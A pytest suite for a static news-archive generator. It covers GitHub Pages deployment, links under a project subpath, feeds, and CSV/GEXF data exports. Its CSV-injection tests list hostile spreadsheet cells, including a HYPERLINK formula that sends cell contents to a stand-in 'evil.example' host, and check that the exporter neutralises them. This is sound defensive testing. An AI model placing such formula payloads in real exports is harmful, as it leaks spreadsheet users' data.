"""Publishing: `mkdocs gh-deploy` to a git remote, the GitHub Pages workflow (and `annals new` shipping it), a site
under a project subpath, and the data exports (`api/mentions.csv.gz`, `api/network.gexf.gz`) read back as a spreadsheet
user and Gephi would."""

from __future__ import annotations

import csv
import dataclasses
import gzip
import html.parser
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import urljoin, urlparse

import pytest
import yaml

from generator.archivedb import mentions_csv, network_gexf
from generator.exports import CHUNK_BYTES, LEVEL, MENTION_COLUMNS, iter_gzipped
from generator.model import ACTOR_TYPES, Archive

from conftest import render_data_exports

REPO = Path(__file__).resolve().parents[1]
CORPUS = REPO.parent / "shared" / "corpus" / "wikinews"
SEED = REPO / "seeds" / "000_e2b6ca9178d6fb5e.txt"
WORKFLOW = REPO / ".github" / "workflows" / "pages.yml"
SCAFFOLD_WORKFLOW = REPO / "generator" / "scaffold" / "pages.yml"
SITE_URL = "https://user.github.io/archive/"
# Real articles that share actors (Pelosi, Trump, the House), so the network has edges heavier than 1.
needs_corpus = pytest.mark.skipif(
    not CORPUS.is_dir(),
    reason=f"shared corpus not found at {CORPUS} (expected ../shared beside the repo)",
)


def copy_repo_project(target: Path, site_url: str | None = None) -> Path:
    """The repository's own archive (mkdocs.yml, docs/, seeds/, site_overrides/) in a fresh folder."""
    target.mkdir(parents=True)
    for name in ("mkdocs.yml", "docs", "seeds", "site_overrides", "entities.yml"):
        source = REPO / name
        if source.is_dir():
            shutil.copytree(source, target / name)
        elif source.is_file():
            shutil.copy(source, target / name)
    if site_url:
        config = (target / "mkdocs.yml").read_text("utf-8")
        (target / "mkdocs.yml").write_text(
            config.replace("# site_url: https://USER.github.io/REPO/", f"site_url: {site_url}"),
            "utf-8",
        )
        assert f"site_url: {site_url}" in (target / "mkdocs.yml").read_text("utf-8")
    return target


def git_environment(home: Path) -> dict[str, str]:
    """Git that ignores this machine's configuration and commits as a fixed test identity."""
    home.mkdir(exist_ok=True)
    (home / ".gitconfig").write_text("", "utf-8")
    identity = {
        "GIT_AUTHOR_NAME": "Annals Test",
        "GIT_AUTHOR_EMAIL": "test@example.org",
        "GIT_COMMITTER_NAME": "Annals Test",
        "GIT_COMMITTER_EMAIL": "test@example.org",
    }
    return {
        **os.environ,
        **identity,
        "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
        "GIT_CONFIG_NOSYSTEM": "1",
    }


def git(*args: str, cwd: Path, env: dict[str, str]) -> str:
    result = subprocess.run(
        ["git", *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, f"git {' '.join(args)}: {result.stderr}"
    return result.stdout


def load_workflow(path: Path) -> dict:
    workflow = yaml.safe_load(path.read_text("utf-8"))
    if True in workflow:  # YAML 1.1 reads the key `on` as the boolean true
        workflow["on"] = workflow.pop(True)
    return workflow


def steps_of(workflow: dict) -> list[dict]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def step_using(workflow: dict, action: str) -> dict:
    matches = [step for step in steps_of(workflow) if step.get("uses", "").split("@")[0] == action]
    assert len(matches) == 1, f"{action} used {len(matches)} times"
    return matches[0]


def step_named(workflow: dict, name: str) -> dict:
    matches = [step for step in steps_of(workflow) if step.get("name") == name]
    assert len(matches) == 1, name
    return matches[0]


# --- mkdocs gh-deploy ------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def deployed(tmp_path_factory):
    """The repo's archive committed to a git repository whose `origin` is a local bare repository, then deployed."""
    root = tmp_path_factory.mktemp("deploy")
    env = git_environment(root / "home")
    remote = root / "remote.git"
    git("init", "--bare", "-q", str(remote), cwd=root, env=env)
    project = copy_repo_project(root / "project")
    (project / ".gitignore").write_text("site/\n.annals-cache/\n", "utf-8")
    git("init", "-q", "-b", "main", cwd=project, env=env)
    git("add", "-A", cwd=project, env=env)
    git("commit", "-q", "-m", "Archive", cwd=project, env=env)
    git("remote", "add", "origin", str(remote), cwd=project, env=env)
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "gh-deploy", "--force", "--remote-name", "origin"],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr
    return project, remote, env


def test_gh_deploy_pushes_the_built_site_to_the_remote_gh_pages_branch(deployed):
    project, remote, env = deployed
    published = set(
        git("ls-tree", "-r", "--name-only", "gh-pages", cwd=remote, env=env).splitlines()
    )
    assert {
        "index.html",
        "actors/vladimir-putin/index.html",
        ".nojekyll",
        "api/entities.json",
        "sitemap.xml",
    } <= published
    assert any(
        path.startswith("articles/2022/02/03/") and path.endswith("/index.html")
        for path in published
    )
    assert "assets/annals/annals.css" in published
    # gh-pages holds the built site only: no sources, no cache.
    assert not any(
        path.startswith(("seeds/", ".annals-cache/", "site/")) or path == "mkdocs.yml"
        for path in published
    )
    home = git("show", "gh-pages:index.html", cwd=remote, env=env)
    assert "Seed archive" in home
    # Deploying changed no tracked file: the build writes only to the ignored site/ and cache.
    assert git("status", "--porcelain", cwd=project, env=env) == ""


def test_the_annotation_cache_the_workflow_saves_is_where_a_build_writes_it(deployed):
    project, _, _ = deployed
    path = step_using(load_workflow(WORKFLOW), "actions/cache")["with"]["path"]
    cached = project / path
    assert cached.is_dir() and any(cached.iterdir()), f"a build wrote no annotations under {path}"


# --- the GitHub Pages workflow ---------------------------------------------------------------------------------


def test_pages_workflow_builds_strictly_and_deploys_with_the_pages_actions():
    workflow = load_workflow(WORKFLOW)
    assert workflow["on"]["push"]["branches"] == ["main"]
    assert workflow["permissions"] == {"contents": "read"}
    assert workflow["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    deploy = workflow["jobs"]["deploy"]
    assert deploy["needs"] == "build"
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["environment"]["name"] == "github-pages"
    assert [s["uses"].split("@")[0] for s in deploy["steps"]] == ["actions/deploy-pages"]

    build = [
        s.get("uses", "").split("@")[0] or s.get("name") for s in workflow["jobs"]["build"]["steps"]
    ]
    assert (
        build.index("actions/checkout")
        < build.index("actions/setup-python")
        < build.index("Install Annals")
    )
    assert (
        build.index("Install Annals")
        < build.index("Build")
        < build.index("actions/upload-pages-artifact")
    )
    assert build.index("actions/cache") < build.index("Build")
    assert str(step_using(workflow, "actions/setup-python")["with"]["python-version"]) == "3.11"
    assert "pip install -e ." in step_named(workflow, "Install Annals")["run"]
    assert "mkdocs build --strict" in step_named(workflow, "Build")["run"]

    cache = step_using(workflow, "actions/cache")["with"]
    assert cache["path"] == ".annals-cache/annotations"
    assert "hashFiles('seeds/**')" in cache["key"]
    # The key changes with the seeds; a restore key lets a changed archive start from the last cache.
    assert cache["restore-keys"].strip() and cache["key"].startswith(cache["restore-keys"].strip())
    # What is uploaded is what the build step wrote.
    assert step_using(workflow, "actions/upload-pages-artifact")["with"]["path"] == "site"
    assert "--site-dir site" in step_named(workflow, "Build")["run"]


WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml")) + [SCAFFOLD_WORKFLOW]
TOOLS = Path(sys.executable).parent


def test_every_workflow_validates_against_githubs_schema():
    """check-jsonschema's copy of the schema GitHub publishes for workflow files (SchemaStore's), offline."""
    result = subprocess.run(
        [
            TOOLS / "check-jsonschema",
            "--builtin-schema",
            "vendor.github-workflows",
            *map(str, WORKFLOWS),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_every_workflow_passes_zizmor():
    """zizmor's offline audits: actions pinned to commits, no persisted credentials, no template injection."""
    result = subprocess.run(
        [TOOLS / "zizmor", "--offline", *map(str, WORKFLOWS)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings" in result.stdout


def test_the_tests_workflow_runs_the_readme_test_command_on_push_and_pull_request():
    workflow = load_workflow(REPO / ".github" / "workflows" / "tests.yml")
    assert set(workflow["on"]) == {"push", "pull_request"}
    readme = (REPO / "README.md").read_text("utf-8")
    command = next(step["run"] for step in steps_of(workflow) if step.get("name") == "Test")
    assert command.strip() in readme
    assert command.strip() in (REPO / ".ci" / "run").read_text("utf-8")
    assert any(
        "apt-get install" in step.get("run", "") and "chromium" in step.get("run", "")
        for step in steps_of(workflow)
    )


def test_the_repository_workflow_is_the_one_annals_new_ships():
    assert WORKFLOW.read_bytes() == SCAFFOLD_WORKFLOW.read_bytes()


def test_annals_new_writes_the_workflow_and_its_build_step_passes_in_the_new_project(tmp_path):
    project = tmp_path / "newsroom"
    result = subprocess.run(
        [sys.executable, "-m", "generator", "new", str(project)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    shipped = project / ".github" / "workflows" / "pages.yml"
    assert shipped.read_bytes() == SCAFFOLD_WORKFLOW.read_bytes()
    # The PyPI project called "annals" is unrelated: the requirements the workflow installs must not name it bare.
    requirements = [
        line.strip() for line in (project / "requirements.txt").read_text("utf-8").splitlines()
    ]
    assert all(line == "" or line.startswith("#") for line in requirements)
    # Run the workflow's own build command, as the runner would, with this environment's mkdocs.
    command = step_named(load_workflow(shipped), "Build")["run"]
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
        "SITE_URL": SITE_URL,
    }
    built = subprocess.run(
        ["bash", "-e", "-c", command],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert built.returncode == 0, built.stderr
    assert (project / "site" / "index.html").is_file()
    assert any((project / "site" / "actors").glob("nancy-pelosi/index.html"))


# --- a site under a project subpath ----------------------------------------------------------------------------


class AttributeCollector(html.parser.HTMLParser):
    """Every URL-valued attribute on a page, and its canonical link."""

    URL_ATTRIBUTES = {"href", "src", "action", "poster", "data-src"}

    def __init__(self):
        super().__init__()
        self.urls: list[tuple[str, str, str]] = []  # (tag, attribute, value)
        self.canonical: str | None = None
        self.alternates: list[dict] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name in self.URL_ATTRIBUTES and value is not None:
                self.urls.append((tag, name, value))
        if tag == "link" and attributes.get("rel") == "canonical":
            self.canonical = attributes.get("href")
        if tag == "link" and attributes.get("rel") == "alternate":
            self.alternates.append(attributes)


def collect(page: Path) -> AttributeCollector:
    collector = AttributeCollector()
    collector.feed(page.read_text("utf-8"))
    return collector


@pytest.fixture(scope="module")
def subpath_site(tmp_path_factory) -> Path:
    """The repo's archive with site_url under a project subpath, built by the Pages workflow's own build command."""
    project = copy_repo_project(tmp_path_factory.mktemp("subpath") / "archive", site_url=SITE_URL)
    command = step_named(load_workflow(WORKFLOW), "Build")["run"]
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
    }
    result = subprocess.run(
        ["bash", "-e", "-c", command],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert result.returncode == 0, result.stderr
    return project / "site"


def page_url(site: Path, page: Path) -> str:
    relative = page.relative_to(site).as_posix()
    return relative[: -len("index.html")] if relative.endswith("index.html") else relative


def test_canonical_links_are_under_the_project_subpath(subpath_site):
    article = next((subpath_site / "articles" / "2022" / "02" / "03").glob("*/index.html"))
    assert collect(article).canonical == SITE_URL + page_url(subpath_site, article)
    assert (
        collect(subpath_site / "actors" / "vladimir-putin" / "index.html").canonical
        == SITE_URL + "actors/vladimir-putin/"
    )
    assert collect(subpath_site / "index.html").canonical == SITE_URL
    for page in subpath_site.rglob("index.html"):
        canonical = collect(page).canonical
        assert canonical is None or urljoin(
            SITE_URL + page_url(subpath_site, page), canonical
        ).startswith(SITE_URL), page
    sitemap = (subpath_site / "sitemap.xml").read_text("utf-8")
    assert f"<loc>{SITE_URL}actors/vladimir-putin/</loc>" in sitemap


def test_no_link_in_the_site_is_root_absolute(subpath_site):
    """A link starting with '/' would leave https://user.github.io/archive/ for the user's root site."""
    pages = sorted(subpath_site.rglob("*.html"))
    # MkDocs' own 404 page is served at any depth, so it links from the site root on purpose (/archive/...).
    pages = [p for p in pages if p.relative_to(subpath_site).as_posix() != "404.html"]
    assert len(pages) > 40
    offending = [
        (p.relative_to(subpath_site).as_posix(), tag, name, value)
        for p in pages
        for tag, name, value in collect(p).urls
        if value.startswith("/")
    ]
    assert offending == []


def test_every_internal_link_on_generated_pages_stays_under_the_subpath_and_exists(subpath_site):
    generated = [
        *(subpath_site / "articles").rglob("index.html"),
        *(subpath_site / "actors").rglob("index.html"),
        *(subpath_site / "dates").rglob("index.html"),
        subpath_site / "index.html",
    ]
    checked = 0
    for page in generated:
        base = SITE_URL + page_url(subpath_site, page)
        for _tag, _name, value in collect(page).urls:
            absolute = urljoin(base, value)
            if urlparse(absolute).netloc != urlparse(SITE_URL).netloc:
                continue  # an external link
            assert absolute.startswith(SITE_URL), (page, value)
            path = urlparse(absolute).path[len(urlparse(SITE_URL).path) :]
            target = subpath_site / path
            assert (
                target / "index.html" if path.endswith("/") or path == "" else target
            ).exists(), (page, value)
            checked += 1
    assert checked > 500


def test_published_site_has_feeds_with_links_under_the_subpath(subpath_site):
    import xml.etree.ElementTree as ET

    atom = "{http://www.w3.org/2005/Atom}"
    for feed_path in ("feed.xml", "actors/vladimir-putin/feed.xml"):
        feed = ET.parse(subpath_site / feed_path).getroot()
        self_link = [
            link.get("href") for link in feed.findall(f"{atom}link") if link.get("rel") == "self"
        ]
        assert self_link == [SITE_URL + feed_path]
        entries = [e.find(f"{atom}link").get("href") for e in feed.findall(f"{atom}entry")]
        # The article's entry, and in the site feed the day's entry (its page lists the day's articles).
        days = [href for href in entries if href == SITE_URL + "dates/2022/02/03/"]
        assert days == ([SITE_URL + "dates/2022/02/03/"] if feed_path == "feed.xml" else [])
        assert entries and all(
            href.startswith(SITE_URL + "articles/2022/02/03/")
            for href in entries
            if href not in days
        )
        for href in entries:
            assert (subpath_site / href[len(SITE_URL) :] / "index.html").is_file()


def test_published_pages_advertise_their_feeds_in_the_head(subpath_site):
    for page, feeds in (
        (subpath_site / "index.html", {"feed.xml"}),
        (
            subpath_site / "actors" / "vladimir-putin" / "index.html",
            {"feed.xml", "actors/vladimir-putin/feed.xml"},
        ),
    ):
        text = page.read_text("utf-8")
        head = text[: text.lower().index("</head>")]
        collector = AttributeCollector()
        collector.feed(head)
        hrefs = [a["href"] for a in collector.alternates if a.get("type") == "application/atom+xml"]
        base = "https://h/" + page_url(subpath_site, page)
        assert {urljoin(base, href)[len("https://h/") :] for href in hrefs} == feeds
        for href in hrefs:
            assert (page.parent / href).resolve().is_file()


def test_published_site_has_the_data_exports(subpath_site):
    import networkx

    # Compressed, read as they are: by the csv module through gzip (pandas' read_csv as well), and by networkx.
    with gzip.open(
        subpath_site / "api" / "mentions.csv.gz", "rt", encoding="utf-8", newline=""
    ) as file:
        rows = list(csv.DictReader(file))
    assert any(row["actor_slug"] == "vladimir-putin" and row["text"] == "Putin" for row in rows)
    graph = networkx.read_gexf(subpath_site / "api" / "network.gexf.gz")
    assert graph.has_edge("vladimir-putin", "jens-stoltenberg")


# --- data exports ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def archive(congress_archive) -> Archive:
    return congress_archive


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_gzipped_exports_are_one_stream_made_as_the_text_comes():
    """A large export is compressed a batch at a time in another thread: the stream is the one gzip makes of the
    whole text at once (batches in their order, none lost or doubled), and the first bytes come out long before
    the last text has been made, so an export of hundreds of MB is never held whole."""
    paragraphs = SEED.read_text("utf-8").split("\n\n")
    pieces = [f"{n},{paragraphs[n % len(paragraphs)]}\r\n" for n in range(60_000)]
    assert sum(len(p.encode()) for p in pieces) > 6 * CHUNK_BYTES  # several batches
    taken = 0

    def made():
        nonlocal taken
        for piece in pieces:
            taken += 1
            yield piece

    stream = iter_gzipped(made())
    first = next(stream)
    assert first and taken < len(pieces) / 2
    packed = first + b"".join(stream)
    assert taken == len(pieces)
    whole = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=whole, mtime=0, compresslevel=LEVEL) as file:
        file.write("".join(pieces).encode("utf-8"))
    assert packed == whole.getvalue()


def test_mentions_csv_has_one_row_per_mention_with_offsets_into_the_article(archive):
    text = mentions_csv(archive)
    assert text.splitlines()[0].split(",") == list(MENTION_COLUMNS)
    rows = read_csv(text)
    assert len(rows) == sum(len(actor.mentions) for actor in archive.actors)
    articles = {a.slug: a for a in archive.articles}
    actors = {a.slug: a for a in archive.actors}
    for row in rows:
        article = articles[row["article_slug"]]
        assert article.text[int(row["start"]) : int(row["end"])] == row["text"]
        assert row["text"] in row["sentence"]
        assert row["article_date"] == article.date.isoformat()
        assert (
            row["actor_name"] == actors[row["actor_slug"]].name and row["actor_type"] in ACTOR_TYPES
        )
    putin = [r for r in rows if r["actor_slug"] == "vladimir-putin"]
    assert [r["text"] for r in putin] == ["Vladimir Putin", "Putin"]
    assert "Boris Johnson spoke with Russian President Vladimir Putin" in putin[0]["sentence"]
    # Oldest article first, then by position in the article.
    keys = [(r["article_date"], r["article_slug"], int(r["start"])) for r in rows]
    assert keys == sorted(keys)


def test_mentions_csv_keeps_commas_quotes_and_line_breaks_intact(archive):
    actor = next(a for a in archive.actors if a.slug == "vladimir-putin")
    tricky = 'He said, "no",\nand left; “fine”'
    changed = dataclasses.replace(
        actor,
        name='Putin, "V."',
        mentions=tuple(dataclasses.replace(m, sentence=tricky) for m in actor.mentions),
    )
    rows = read_csv(mentions_csv(dataclasses.replace(archive, actors=(changed,))))
    assert [(r["actor_name"], r["sentence"]) for r in rows] == [('Putin, "V."', tricky)] * 2


# Written out here, not taken from generator.exports: the first characters that make a spreadsheet run a cell as a
# formula, from OWASP's CSV Injection page (=, +, -, @, tab, carriage return), and NUL, which ASVS adds.
SPREADSHEET_FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\x00"]
HOSTILE_CELLS = [
    *(trigger + "1+1" for trigger in SPREADSHEET_FORMULA_TRIGGERS),
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


def first_row_with_text(archive: Archive, text: str) -> dict:
    """The first mentions.csv row after every field of Putin a file can fill (name, mention, sentence) is `text`."""
    actor = next(a for a in archive.actors if a.slug == "vladimir-putin")
    mentions = tuple(
        dataclasses.replace(m, text=text, sentence=text + " said the sentence.")
        for m in actor.mentions
    )
    changed = dataclasses.replace(actor, name=text, mentions=mentions)
    return read_csv(mentions_csv(dataclasses.replace(archive, actors=(changed,))))[0]


@pytest.mark.parametrize("hostile", HOSTILE_CELLS, ids=repr)
def test_mentions_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(archive, hostile):
    row = first_row_with_text(archive, hostile)
    assert (row["actor_name"], row["text"], row["sentence"]) == (
        "'" + hostile,
        "'" + hostile,
        "'" + hostile + " said the sentence.",
    )
    # Ordinary text is left as it is.
    assert row["actor_slug"] == "vladimir-putin" and row["start"].isdigit()


def test_the_sql_spreadsheet_guard_quotes_exactly_what_spreadsheet_safe_quotes():
    """mentions.csv's cells are made safe by SQLite (exports.spreadsheet_safe_sql), the same rule as
    exports.spreadsheet_safe: every first character tried, ASCII or not, alone and followed by text."""
    import random
    import sqlite3

    from generator.exports import spreadsheet_safe, spreadsheet_safe_sql

    rng = random.Random(7)
    alphabet = [chr(n) for n in range(130)] + ["é", "Ω", "€", "\u2028", "\U0001f600"]
    values = [first + rest for first in alphabet for rest in ("", "1+1", "é=x")]
    values += ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(3000)]
    with sqlite3.connect(":memory:") as connection:
        connection.execute("CREATE TABLE cells (value TEXT)")
        connection.executemany("INSERT INTO cells VALUES (?)", [(v,) for v in values])
        guarded = [
            row[0]
            for row in connection.execute(
                f"SELECT {spreadsheet_safe_sql('value')} FROM cells ORDER BY rowid"
            )
        ]
    assert guarded == [spreadsheet_safe(v) for v in values]
    assert sum(g != v for g, v in zip(guarded, values)) > 100  # the triggers were tried


def test_every_formula_trigger_is_neutralised_and_only_at_the_start_of_a_cell(archive):
    for trigger in SPREADSHEET_FORMULA_TRIGGERS:
        assert first_row_with_text(archive, trigger + "A1")["actor_name"] == "'" + trigger + "A1", (
            repr(trigger)
        )
        # Inside a cell the same character is harmless, and the text is kept exactly.
        assert (
            first_row_with_text(archive, "A" + trigger + "1")["actor_name"] == "A" + trigger + "1"
        ), repr(trigger)
    assert first_row_with_text(archive, "'quoted")["actor_name"] == "'quoted"


def test_network_gexf_reads_back_in_networkx_with_actors_and_shared_article_weights(
    archive, tmp_path
):
    networkx = pytest.importorskip("networkx")
    path = tmp_path / "network.gexf"
    path.write_text(network_gexf(archive), "utf-8")
    graph = networkx.read_gexf(path)
    assert (
        isinstance(graph, networkx.Graph) and not graph.is_directed() and not graph.is_multigraph()
    )
    assert set(graph.nodes) == {a.slug for a in archive.actors}
    for actor in archive.actors:
        node = graph.nodes[actor.slug]
        assert (node["label"], node["type"], node["mentions"]) == (
            actor.name,
            actor.type,
            len(actor.mentions),
        )
        assert node["articles"] == len({m.article for m in actor.mentions})
    articles_of = {a.slug: {m.article for m in a.mentions} for a in archive.actors}
    expected = {
        tuple(sorted((a, b))): len(articles_of[a] & articles_of[b])
        for a in articles_of
        for b in articles_of
        if a < b and articles_of[a] & articles_of[b]
    }
    assert {
        tuple(sorted(edge)): data["weight"] for *edge, data in graph.edges(data=True)
    } == expected
    # The seed article names Putin and Stoltenberg together, once.
    assert graph.edges["vladimir-putin", "jens-stoltenberg"]["weight"] == 1
    if CORPUS.is_dir():
        assert graph.edges["donald-trump", "nancy-pelosi"]["weight"] >= 3
        assert not graph.has_edge("vladimir-putin", "nancy-pelosi")


def test_exports_are_byte_identical_whatever_order_the_actors_come_in(archive):
    shuffled = dataclasses.replace(
        archive, actors=tuple(reversed(archive.actors)), articles=tuple(reversed(archive.articles))
    )
    assert render_data_exports(archive) == render_data_exports(shuffled)
    pages = {page.path: page.content for page in render_data_exports(archive)}
    assert set(pages) == {"api/mentions.csv.gz", "api/network.gexf.gz"}
    # The only date in the network is the newest article's, never the day of the build.
    newest = max(a.date for a in archive.articles).isoformat()
    assert f'lastmodifieddate="{newest}"' in pages["api/network.gexf.gz"]


def test_network_gexf_is_well_formed_for_names_with_markup_and_control_characters(
    archive, tmp_path
):
    networkx = pytest.importorskip("networkx")
    actor = next(a for a in archive.actors if a.slug == "vladimir-putin")
    hostile = dataclasses.replace(actor, name='<b>Putin</b> & "Co"\x07\u202e')
    path = tmp_path / "network.gexf"
    path.write_text(network_gexf(dataclasses.replace(archive, actors=(hostile,))), "utf-8")
    assert (
        networkx.read_gexf(path).nodes["vladimir-putin"]["label"]
        == '<b>Putin</b> & "Co"<U+0007><U+202E>'
    )


def test_empty_archive_exports_are_valid(tmp_path):
    networkx = pytest.importorskip("networkx")
    empty = Archive(articles=(), actors=())
    assert read_csv(mentions_csv(empty)) == []
    path = tmp_path / "network.gexf"
    path.write_text(network_gexf(empty), "utf-8")
    assert networkx.read_gexf(path).number_of_nodes() == 0
